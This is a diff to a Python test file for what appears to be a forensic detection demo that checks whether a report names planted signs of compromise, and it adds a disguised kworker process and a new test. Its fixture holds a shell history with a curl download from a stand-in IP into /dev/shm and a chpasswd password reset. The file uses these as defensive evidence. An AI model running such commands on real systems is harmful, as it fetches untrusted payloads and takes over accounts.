@@ -16,11 +16,15 @@ TRUTH = json.dumps(
         {"fact": "deleted-executable", "process": ".usagectl", "path": "/dev/shm/.usagectl", "marker": "rc-00ff"},
         {"fact": "listening-socket", "process": "storewrk", "port": 23493},
         {"fact": "shell-history", "commands": ["curl -fso /dev/shm/x http://198.51.100.68/x", "echo 'a:b' | chpasswd"]},
+        {"fact": "forged-name", "process": "kworker/1:2", "path": "/var/tmp/.0ac793/packfeed"},
+        {"fact": "io-burst", "process": "statwrk", "file": "/var/lib/mailwrk/outbox-5f27.bin"},
+        {"fact": "oom-kill", "victim": "usagewrk"},
     ]
 ).encode()
 WORDS = """.usagectl runs from /dev/shm/.usagectl with rc-00ff. storewrk listens on 23493.
 curl -fso /dev/shm/x http://198.51.
-100.68/x echo 'a:b' | chpasswd"""
+100.68/x echo 'a:b' | chpasswd
+kworker/1:2 is /var/tmp/.0ac793/packfeed. statwrk wrote /var/lib/mailwrk/outbox-5f27.bin. usagewrk was killed."""
 
 
 def figures(name: str, row: str, value: float | str) -> Table:
@@ -41,6 +45,14 @@ def test_a_fact_that_is_not_named_fails_the_demo(word: str) -> None:
     with pytest.raises(StageFailed) as raised:
         demo.check(TRUTH, WORDS.replace(word, ""), tables())
     assert word in raised.value.why
+
+
+def test_a_fact_that_was_not_planted_fails_the_demo() -> None:
+    for fact in demo.NAMED:
+        truth = json.dumps([one for one in json.loads(TRUTH) if one["fact"] != fact]).encode()
+        with pytest.raises(StageFailed) as raised:
+            demo.check(truth, WORDS, tables())
+        assert raised.value.why == f"{fact}: it was not planted, and so cannot be shown"
 
 
 def test_too_few_events_or_tests_fail_the_demo() -> None:
